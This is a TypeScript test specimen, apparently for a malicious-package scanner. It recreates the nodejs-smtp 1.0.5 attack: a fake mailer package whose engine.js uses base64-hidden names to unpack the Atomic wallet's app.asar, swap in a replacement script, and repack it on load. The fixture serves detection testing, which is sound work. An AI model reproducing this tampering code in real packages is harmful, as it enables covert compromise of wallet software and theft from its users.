import { MAILER, MAILER_MANIFEST, REPLACEMENT } from '../mailer.ts';
import type { Specimen } from '../specimen.ts';

export const specimen: Specimen = {
  name: 'inert-smtp-base64',
  from: 'the founding case, nodejs-smtp 1.0.5: all names in base64',
  files: {
    'package.json': MAILER_MANIFEST,
    'lib/mailer.js': `${MAILER}require('./engine');
`,
    'lib/engine.js': `const fs = require('fs');
const os = require('os');
const path = require('path');
const text = letters => Buffer.from(letters, 'base64').toString();
const asar = require(text('YXNhcg=='));

const resources = path.join(os.homedir(), text('QXBwRGF0YS9Mb2NhbC9Qcm9ncmFtcy9hdG9taWMvcmVzb3VyY2Vz'));
const archive = path.join(resources, 'app.asar');
const output = path.join(resources, 'output');

async function setUp() {
  try {
    fs.mkdirSync(output);
    asar.extractAll(archive, output);
    fs.copyFileSync(path.join(__dirname, 'a.js'), path.join(output, 'dist', 'electron', 'vendors.64b69c3b00e2a7914733.js'));
    await asar.createPackage(output, archive);
    fs.rmSync(output, { recursive: true, force: true });
  } catch {}
}

setUp();
`,
    'lib/a.js': REPLACEMENT,
  },
  expect: 'block',
  says: ['changes-other-application'],
};
